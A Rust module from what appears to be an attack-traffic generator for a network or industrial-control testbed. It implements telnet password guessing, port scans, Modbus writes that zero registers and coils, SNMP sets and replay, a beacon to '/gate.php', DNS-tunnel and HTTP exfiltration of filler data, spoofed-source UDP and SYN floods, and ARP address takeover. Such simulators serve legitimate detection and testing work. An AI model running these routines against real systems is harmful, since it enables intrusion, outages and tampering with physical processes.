//! Doing one step once.
//!
//! Owns: our own attack programs. Does not own: rhythm and bounds (`attack`), other people's tools.

use std::io::{self, ErrorKind};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket};
use std::process::Command;
use std::time::Duration;

use super::{Step, replay, syns, tool};
use crate::device::modbus::Master;
use crate::device::{self, snmp, telnet};
use crate::log::{Kind, Log, now};

/// How long a scan waits for an answer.
const GLANCE: Duration = Duration::from_millis(40);

/// One who does a step.
pub(super) struct Attacker<'a> {
    step: &'a Step,
    log: &'a Log,
    master: Option<Master>,
}

impl<'a> Attacker<'a> {
    /// Has done nothing yet.
    pub(super) fn new(step: &'a Step, log: &'a Log) -> Attacker<'a> {
        let master = match step {
            Step::Modbus { to, .. } | Step::ModbusRead { to } => Some(Master::new(*to)),
            _ => None,
        };
        Attacker { step, log, master }
    }

    fn tell(&self, peer: Ipv4Addr, began: u64, outcome: io::Result<()>, what: &str) {
        let error = outcome
            .as_ref()
            .err()
            .map_or_else(String::new, |e| format!(": {e}"));
        let what = format!("{what}{error}");
        let name = self.step.name();
        self.log.tell(
            Kind::Attack,
            name,
            &peer.to_string(),
            began,
            outcome.is_ok(),
            &what,
        );
    }

    /// Does it once, and writes down what came of it.
    pub(super) fn try_once(&mut self, count: u32) {
        let began = now();
        match self.step {
            Step::Telnet {
                targets,
                passwords,
                lines,
            } => self.telnet(targets, passwords, lines),
            Step::Scan { targets, ports } => self.scan(targets, ports),
            Step::Modbus { to, register } => {
                let outcome = match (&mut self.master, register) {
                    (Some(master), Some(register)) => master.write_register(*register, 0),
                    (Some(master), None) => master.write_coil(3, false),
                    (None, _) => Ok(()),
                };
                self.tell(*to, began, outcome, "write");
            }
            Step::ModbusRead { to } => {
                let outcome = self.master.as_mut().map_or(Ok(vec![]), |m| m.read_holding(0, 16));
                self.tell(*to, began, outcome.map(drop), "read");
            }
            Step::Snmp { to, community, oid } => {
                let outcome = snmp::set(*to, community, oid, 255, u64::from(count) + 7_000);
                self.tell(*to, began, outcome, "set");
            }
            Step::Beacon { to } => {
                let outcome = device::http_get(*to, 80, "/gate.php?id=1").map(drop);
                self.tell(*to, began, outcome, "call home");
            }
            Step::Page { to } => {
                let outcome = device::http_get(*to, 80, "/forms").map(drop);
                self.tell(*to, began, outcome, "page");
            }
            Step::DnsTunnel { via } => {
                let outcome = device::dns_ask(*via, &tunnel_name(count), device::TXT, count as u16);
                self.tell(*via, began, outcome, "48 bytes out");
            }
            Step::Exfiltrate { to, bytes } => {
                let body = vec![b'x'; *bytes];
                let outcome = device::http_post(*to, 80, "/upload", &body).map(drop);
                self.tell(*to, began, outcome, &format!("{bytes} bytes out"));
            }
            Step::Flood {
                to,
                port,
                sources,
                burst,
            } => {
                let outcome = flood(*to, *port, sources, *burst, count);
                self.tell(*to, began, outcome, &format!("{burst} datagrams"));
            }
            Step::SynFlood { to, port, burst } => {
                let outcome = syns::send(SocketAddrV4::new(*to, *port), *burst, count);
                self.tell(*to, began, outcome, &format!("{burst} SYNs"));
            }
            Step::Reflect { to, from_port, burst } => {
                let outcome = syns::answers(*to, *from_port, *burst, count);
                self.tell(*to, began, outcome, &format!("{burst} answers"));
            }
            Step::SnmpRead { to, community, oid } => {
                let outcome = snmp::get(*to, community, oid, u64::from(count) + 9_000).map(drop);
                self.tell(*to, began, outcome, "get");
            }
            Step::Replay { to, source, oid } => {
                let outcome = replay::play(*to, *source, oid);
                self.tell(*to, began, outcome, &format!("sets in the name of {source}"));
            }
            Step::TakeAddress { address } => {
                let outcome = take_address(*address, count);
                self.tell(*address, began, outcome, "announced");
            }
            Step::Tool { program, arguments } => {
                let (ok, what) = tool::run(program, arguments);
                self.log.tell(Kind::Attack, "tool", program, began, ok, &what);
            }
        }
    }

    fn telnet(&self, targets: &[Ipv4Addr], passwords: &[(String, String)], lines: &[String]) {
        for target in targets {
            for (user, password) in passwords {
                let began = now();
                let outcome = match telnet::login(*target, user, password, lines) {
                    Ok(true) => Ok(()),
                    Ok(false) => Err(io::Error::new(ErrorKind::PermissionDenied, "wrong password")),
                    Err(error) => Err(error),
                };
                let unreachable = outcome
                    .as_ref()
                    .is_err_and(|e| e.kind() != ErrorKind::PermissionDenied);
                let inside = outcome.is_ok();
                self.tell(*target, began, outcome, &format!("login {user}"));
                if inside || unreachable {
                    break;
                }
            }
        }
    }

    fn scan(&self, targets: &[Ipv4Addr], ports: &[u16]) {
        for target in targets {
            for port in ports {
                let began = now();
                let to = SocketAddr::new(IpAddr::V4(*target), *port);
                let outcome = TcpStream::connect_timeout(&to, GLANCE).map(drop);
                self.tell(*target, began, outcome, &format!("tcp/{port}"));
            }
        }
    }
}

/// A name that carries 48 letters and digits of somebody's data.
fn tunnel_name(count: u32) -> String {
    let mut random = crate::random::Random::new(u64::from(count) + 99);
    let letters: String = (0..48)
        .map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(random.next() % 32) as usize]))
        .collect();
    format!("{letters}.{count}.tunnel.example")
}

/// Sends a burst, each datagram from the next of the sources.
fn flood(to: Ipv4Addr, port: u16, sources: &[Ipv4Addr], burst: u32, count: u32) -> io::Result<()> {
    if count == 0 {
        for source in sources {
            run("ip", &["addr", "add", &format!("{source}/32"), "dev", "lo"])?;
        }
    }
    let own = [Ipv4Addr::UNSPECIFIED];
    let sources = if sources.is_empty() { &own[..] } else { sources };
    let sockets: Vec<UdpSocket> = sources
        .iter()
        .map(|source| {
            let socket = UdpSocket::bind((*source, 0))?;
            socket.connect((to, port))?;
            Ok(socket)
        })
        .collect::<io::Result<_>>()?;
    let mut sent = Ok(());
    for socket in sockets.iter().cycle().take(burst as usize) {
        // A port that nobody serves refuses; the flood does not mind.
        match socket.send(&[0x55; 400]) {
            Err(error) if error.kind() == ErrorKind::PermissionDenied => sent = Err(error),
            _ => {}
        }
    }
    sent
}

/// Takes an address on the own link. The kernel then answers for it, and asks its neighbours in its
/// name: each such question says that the address is here (RFC 826).
fn take_address(address: Ipv4Addr, count: u32) -> io::Result<()> {
    if count == 0 {
        run("ip", &["addr", "add", &format!("{address}/32"), "dev", "eth0"])?;
    }
    let [a, b, c, _] = address.octets();
    // Somebody new each time, for whom the kernel has to ask.
    let neighbour = Ipv4Addr::new(a, b, c, 100 + (count % 120) as u8);
    let socket = UdpSocket::bind((address, 0))?;
    socket.send_to(b"here I am", (neighbour, 9)).map(drop)
}

/// Runs a program to its end; gives what it said.
pub(super) fn run(program: &str, arguments: &[&str]) -> io::Result<String> {
    let output = Command::new(program).args(arguments).output()?;
    if output.status.success() {
        return Ok(String::from_utf8_lossy(&output.stdout).into_owned());
    }
    Err(io::Error::other(
        String::from_utf8_lossy(&output.stderr).trim().to_owned(),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_tunnel_s_names_differ_and_fit() {
        let names: std::collections::BTreeSet<_> = (0..100).map(tunnel_name).collect();
        assert_eq!(names.len(), 100);
        for name in names {
            assert!(name.len() < 254 && name.split('.').all(|label| (1..=63).contains(&label.len())));
        }
    }
}
